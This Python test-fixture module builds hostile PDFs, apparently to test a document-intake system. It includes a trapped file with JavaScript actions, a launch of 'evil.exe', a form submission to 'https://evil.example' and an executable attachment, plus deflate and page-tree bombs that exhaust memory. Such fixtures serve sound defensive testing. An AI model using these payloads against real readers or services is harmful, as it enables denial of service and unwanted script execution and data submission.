"""Files as strangers send them: honest, turned, odd-sized, full of traps, damaged, and built to exhaust."""

import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from models.documents.content import Bilingual, PackPart, PartKind


def part(data: bytes, media_type: str = "application/pdf", name: str = "stranger.pdf") -> PackPart:
    return PackPart(Bilingual("A stranger's paper", "外来文件"), PartKind.CUSTOMER_DOCUMENT, data, media_type, name)


def saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    target = io.BytesIO()
    pdf.save(target, deterministic_id="encryption" not in options, **options)
    return target.getvalue()


def add_page(pdf: pikepdf.Pdf, words: str, size: tuple[float, float] = (595, 842), rotate: int = 0) -> pikepdf.Page:
    page = pdf.add_blank_page(page_size=size)
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    page.obj.Contents = pdf.make_stream(
        f"BT /F1 14 Tf 20 {size[1] - 40} Td ({words}) Tj ET 1 0 0 RG 2 2 {size[0] - 4} {size[1] - 4} re S".encode()
    )
    if rotate:
        page.obj.Rotate = rotate
    return page


def plain(pages: int = 1, **options: object) -> bytes:
    pdf = pikepdf.new()
    for number in range(pages):
        add_page(pdf, f"Plain page {number + 1}")
    return saved(pdf, **options)


def odd_sizes() -> bytes:
    pdf = pikepdf.new()
    add_page(pdf, "A3 landscape", (1191, 842))
    add_page(pdf, "A4 turned 90", rotate=90)
    add_page(pdf, "A4 turned 180", rotate=180)
    add_page(pdf, "A4 turned 270", rotate=270)
    add_page(pdf, "ticket", (160, 90))
    cropped = add_page(pdf, "cropped")
    cropped.obj.CropBox = Array([100, 300, 500, 842])
    return saved(pdf)


def trapped() -> bytes:
    """Return a PDF with scripts, actions, a form, an attachment, links, XFA, layers and an open action."""
    pdf = pikepdf.new()
    page = add_page(pdf, "Trapped page")
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    link = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": Array([10, 10, 60, 30])}
    launch = pdf.make_indirect(Dictionary(**link, A=Dictionary(S=Name.Launch, F=String("evil.exe"))))
    submit = pdf.make_indirect(Dictionary(**link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))))
    look = pdf.make_stream(b"BT /F1 12 Tf 2 4 Td (FIELD VALUE) Tj ET")
    look.Type, look.Subtype, look.BBox = Name.XObject, Name.Form, Array([0, 0, 200, 20])
    look.Resources = page.obj.Resources
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            V=String("FIELD VALUE"),
            F=4,
            Rect=Array([100, 500, 300, 520]),
            AP=Dictionary(N=look),
            AA=Dictionary(K=script),
        )
    )
    page.obj.Annots = Array([launch, submit, field])
    page.obj.AA = Dictionary(O=script)
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=script)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True, XFA=pdf.make_stream(b"<xdp/>"))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([]), D=Dictionary())
    pdf.attachments["evil.exe"] = b"MZ"
    pdf.Root.Names.JavaScript = Dictionary(Names=Array([String("a"), script]))
    return saved(pdf)


def deflate_bomb(megabytes: int = 600) -> bytes:
    pdf = pikepdf.new()
    page = add_page(pdf, "bomb")
    machine = zlib.compressobj(9)
    block = b" " * (1024 * 1024)
    data = b"".join(machine.compress(block) for _ in range(megabytes)) + machine.flush()
    stream = pikepdf.Stream(pdf, data)
    stream.Filter = Name.FlateDecode
    page.obj.Contents = pdf.make_indirect(stream)
    return saved(pdf)


def page_tree_bomb(depth: int = 30) -> bytes:
    """Return a page tree in which every node names its child twice: two to the thirtieth pages in 4 kB."""
    bodies = ["<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        child = level + 3
        parent = f"/Parent {level + 1} 0 R" if level else ""
        bodies.append(f"<< /Type /Pages {parent} /Kids [{child} 0 R {child} 0 R] /Count {2 ** (depth - level)} >>")
    bodies.append(f"<< /Type /Page /Parent {depth + 1} 0 R /MediaBox [0 0 100 100] >>")
    return raw(bodies)


def page_tree_loop() -> bytes:
    return raw(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>"])


def false_count() -> bytes:
    return raw(
        [
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>",
        ]
    )


def raw(bodies: list[str]) -> bytes:
    """Write numbered objects as a PDF by hand, for structures no library would write."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(bodies, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    start = len(out)
    out += f"xref\n0 {len(bodies) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010d} 00000 n \n".encode() for place in places)
    out += f"trailer\n<< /Size {len(bodies) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def picture(form: str, size: tuple[int, int] = (400, 260), mode: str = "RGB", **options: object) -> bytes:
    image = Image.new(mode, size)
    if mode in {"RGB", "L"}:
        image.paste(Image.linear_gradient("L").resize(size).convert(mode))
    target = io.BytesIO()
    image.save(target, form, **options)
    return target.getvalue()
